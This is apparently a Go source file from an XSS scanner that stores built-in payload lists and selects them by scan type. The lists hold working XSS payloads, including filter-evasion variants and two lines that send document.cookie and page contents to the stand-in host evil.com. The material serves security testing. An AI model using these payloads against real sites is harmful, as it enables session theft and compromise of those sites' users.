package scanner

import (
	"sync"

	"github.com/pynezz/gungnir/pkg/types"
)

// Built-in payload catalogs. These are copied into every Selector so
// the package-level slices stay immutable.
var (
	basicPayloads = []string{
		"<script>alert('XSS')</script>",
		"<img src=x onerror=alert('XSS')>",
		"javascript:alert('XSS')",
		"<svg onload=alert('XSS')>",
		"<iframe src=javascript:alert('XSS')></iframe>",
	}

	advancedPayloads = []string{
		"<script>document.location='http://evil.com/steal?cookie='+document.cookie</script>",
		"<img src=x onerror=fetch('http://evil.com/steal?data='+document.body.innerHTML)>",
		"<script>eval(String.fromCharCode(97,108,101,114,116,40,39,88,83,83,39,41))</script>",
		"<svg/onload=location='javascript:alert`XSS`'>",
		"<details open ontoggle=alert('XSS')>",
	}

	evasionPayloads = []string{
		"<ScRiPt>alert('XSS')</ScRiPt>",
		"<script>ale%72t('XSS')</script>",
		"<script>&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;</script>",
		"<script src=data:,alert('XSS')></script>",
		"<svg><script>alert('XSS')</script></svg>",
	}
)

const (
	// QuickPayloadCount is how many of the basic payloads a quick scan uses
	QuickPayloadCount = 3

	// URLParamPayloadLimit caps how many payloads a url_parameter surface
	// is tested with. Form surfaces get the full sequence. The asymmetry
	// keeps the request volume against query strings bounded.
	URLParamPayloadLimit = 5
)

// Catalogs holds the three curated payload lists
type Catalogs struct {
	Basic    []string
	Advanced []string
	Evasion  []string
}

// DefaultCatalogs returns a copy of the built-in catalogs
func DefaultCatalogs() Catalogs {
	return Catalogs{
		Basic:    append([]string(nil), basicPayloads...),
		Advanced: append([]string(nil), advancedPayloads...),
		Evasion:  append([]string(nil), evasionPayloads...),
	}
}

// Selector produces the payload sequence for a scan type. Catalogs can
// be swapped at runtime (config hot reload), selection itself never
// mutates them.
type Selector struct {
	mu       sync.RWMutex
	catalogs Catalogs
}

// NewSelector creates a Selector with the given catalogs. Empty lists
// fall back to the built-in catalog of the same name.
func NewSelector(catalogs Catalogs) *Selector {
	s := &Selector{}
	s.SetCatalogs(catalogs)
	return s
}

// SetCatalogs atomically replaces the catalogs
func (s *Selector) SetCatalogs(catalogs Catalogs) {
	if len(catalogs.Basic) == 0 {
		catalogs.Basic = basicPayloads
	}
	if len(catalogs.Advanced) == 0 {
		catalogs.Advanced = advancedPayloads
	}
	if len(catalogs.Evasion) == 0 {
		catalogs.Evasion = evasionPayloads
	}

	s.mu.Lock()
	s.catalogs = Catalogs{
		Basic:    append([]string(nil), catalogs.Basic...),
		Advanced: append([]string(nil), catalogs.Advanced...),
		Evasion:  append([]string(nil), catalogs.Evasion...),
	}
	s.mu.Unlock()
}

// Select returns the ordered payload sequence for the scan type:
// quick uses the first three basic payloads, comprehensive uses
// basic ++ advanced ++ evasion, custom uses exactly the given payloads.
// Unknown scan types select nothing.
func (s *Selector) Select(scanType string, custom []string) []string {
	s.mu.RLock()
	defer s.mu.RUnlock()

	switch scanType {
	case types.ScanTypeQuick:
		n := QuickPayloadCount
		if n > len(s.catalogs.Basic) {
			n = len(s.catalogs.Basic)
		}
		return append([]string(nil), s.catalogs.Basic[:n]...)
	case types.ScanTypeComprehensive:
		payloads := make([]string, 0, len(s.catalogs.Basic)+len(s.catalogs.Advanced)+len(s.catalogs.Evasion))
		payloads = append(payloads, s.catalogs.Basic...)
		payloads = append(payloads, s.catalogs.Advanced...)
		payloads = append(payloads, s.catalogs.Evasion...)
		return payloads
	case types.ScanTypeCustom:
		return append([]string(nil), custom...)
	}
	return nil
}
